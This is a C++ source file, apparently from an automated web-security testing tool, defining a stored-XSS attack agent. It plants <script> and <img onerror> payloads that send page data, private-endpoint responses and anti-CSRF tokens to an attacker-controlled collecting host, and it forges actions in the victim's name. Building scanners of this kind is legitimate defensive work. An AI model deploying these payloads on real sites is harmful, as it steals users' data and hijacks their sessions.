// xss-stored: leaves scripts where others read them, in every way a script gets into a page, and
// lets them take what they reach and act in the reader's name: the same script reads the page's
// anti-CSRF token (OWASP Cross Site Scripting Prevention Cheat Sheet). It leaves by fetch, image,
// form and navigation, because a policy may have forgotten one.
#include "core/attack/every_agent.h"
#include "core/attack/page_script.h"
#include "core/attack/stored_text.h"

namespace parapet::attack {
namespace {

class XssStored final : public Agent {
    void run(Target& target) override {
        OwnHost* evil = foreign_host(target);
        if (evil == nullptr || target.victim() == nullptr) return;
        std::string const address = collecting_address(*evil);
        StoredText text(target);
        if (!text.has_place()) return;
        text.leave_all(script_carriers(quiet_script(target, address)));
        if (victim_reads_and_loot_is_used(target)) return;
        // These leave the page, so that they come last and alone.
        std::vector<std::string> carriers;
        for (Channel channel : {Channel::Form, Channel::Navigation}) {
            std::string const script = send_script(channel, address, kAllInReach);
            carriers.push_back("<script>" + script + "</script>");
            carriers.push_back("<img src=\"x:\" onerror=" + in_quotes(script) + ">");
        }
        text.leave_all(carriers);
        victim_reads_and_loot_is_used(target, Visit::Another);
    }

    static std::string quiet_script(Target& target, std::string const& address) {
        std::string script = send_script(Channel::Fetch, address, kAllInReach) +
                             send_script(Channel::Image, address, kAllInReach);
        for (Endpoint const* each : private_endpoints(target))
            script += fetch_and_send(each->path, address);
        if (target.option(option::kEndpoints).empty()) return once(script);
        for (Endpoint const* each : unsafe_endpoints(target))
            script += act_script(target, *each, look_at_form(target, *each, As::Attacker));
        return once(script);
    }
};

}  // namespace

std::unique_ptr<Agent> make_xss_stored() { return std::make_unique<XssStored>(); }

}  // namespace parapet::attack
